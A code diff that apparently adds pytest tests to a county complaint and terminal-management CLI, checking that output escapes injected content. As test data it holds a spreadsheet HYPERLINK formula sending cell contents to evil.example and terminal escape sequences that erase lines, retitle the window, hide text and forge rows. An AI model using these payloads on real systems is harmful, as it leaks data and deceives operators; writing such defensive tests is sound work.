@@ -9,17 +9,22 @@ terminal.
 from __future__ import annotations
 
 import csv
+import json
+import re
 import shutil
 from datetime import UTC, datetime
 from pathlib import Path
 
+import httpx
 import openpyxl
 import pytest
+from sqlalchemy import Engine
 
 from county.cli import main
 from county.complaints import receive_complaint
 from county.db import open_county_db
 from county.terminals import enroll, new_enrollment_code
+from county_server.conftest import auth, enroll_terminal
 from sync.protocol import ComplaintSubmission
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
@@ -149,3 +154,59 @@ def test_reject_file_neutralises_formulas(capsys: pytest.CaptureFixture[str], db
     cells = [c for line in sheet.iter_rows() for c in line if c.value is not None]
     assert not any(c.data_type == "f" for c in cells)
     assert "'=HYPERLINK(\"http://evil.example\")" in [c.value for c in cells]
+
+
+# --- strings from terminals on IT staff's terminal -------------------------------------------
+
+# A heartbeat that rewrites the screen: return to the line start, erase it, print another
+# version (hiding 9.9.9, the sign of a leaked release key) and forge a second terminal row.
+FORGED_VERSION = "9.9.9\r\x1b[2K0.2.0\nT00009"
+FORGED_READER = "ready\x1b]0;pwned\x07\u202e"
+
+
+def _terminal_lines(text: str) -> list[str]:
+    return [line for line in text.splitlines() if line.strip()]
+
+
+def test_forged_heartbeat_is_escaped_in_county_terminals(
+        seeded_engine: Engine, seeded_url: str, client: httpx.Client,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    terminal = enroll_terminal(seeded_engine, client)
+    answer = client.post("/api/v1/heartbeat", headers=auth(terminal), json={
+        "version": FORGED_VERSION, "uptime_s": 60, "reader": FORGED_READER,
+        "printer": "ready", "outbox_depth": 0, "disk_free_bytes": 2**30,
+        "update": {"version": "1.0\x1b[8m", "result": "refused", "code": "release.expired",
+                   "message": "hidden\x1b[8m\nT00010   高村镇假村  ok",
+                   "finished_at": datetime.now(UTC).isoformat()}})
+    assert answer.status_code == 200, answer.text
+    assert main(["terminals", "--db", seeded_url]) == 0
+    out = capsys.readouterr().out
+    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out), repr(out)
+    assert "9.9.9\\r\\x1b[2K0.2.0\\nT00009" in out
+    assert "ready\\x1b]0;pwned\\x07\\u202e" in out
+    lines = _terminal_lines(out)
+    assert lines[0].startswith("id ")
+    # one row for the terminal and one for its failed update; no forged T00009/T00010 row
+    assert [line.split()[0] for line in lines[1:]] == [terminal["terminal_id"], "update"]
+    assert "hidden\\x1b[8m\\nT00010" in lines[2]
+    assert main(["terminals", "--json", "--db", seeded_url]) == 0
+    raw = capsys.readouterr().out
+    assert "\x1b" not in raw and "\u202e" not in raw
+    [row] = json.loads(raw)
+    assert row["version"] == FORGED_VERSION  # the data itself is kept, only its display
+
+
+def test_complaint_fields_are_escaped_in_list_and_show(capsys: pytest.CaptureFixture[str],
+                                                       db: str) -> None:
+    _file(db, text="正文\x1b[2J\x1b[H\n投诉编号 C0000099 已结案", name="刘\x1b]8;;x\x07䶮",
+          phone=None)
+    for argv in (["complaints", "list"], ["complaints", "show", "C0000001"]):
+        assert main([*argv, "--db", db]) == 0
+        out = capsys.readouterr().out
+        assert "\x1b" not in out and "\x07" not in out, repr(out)
+        assert "\\x1b[2J" in out
+    assert main(["complaints", "list", "--db", db]) == 0
+    assert len(capsys.readouterr().out.splitlines()) == 1  # one complaint, one line
+    assert main(["complaints", "show", "C0000001", "--db", db]) == 0
+    shown = capsys.readouterr().out.splitlines()
+    assert [line.split()[0] for line in shown] == ["投诉编号", "类别", "实名:", "内容:", "答复:"]
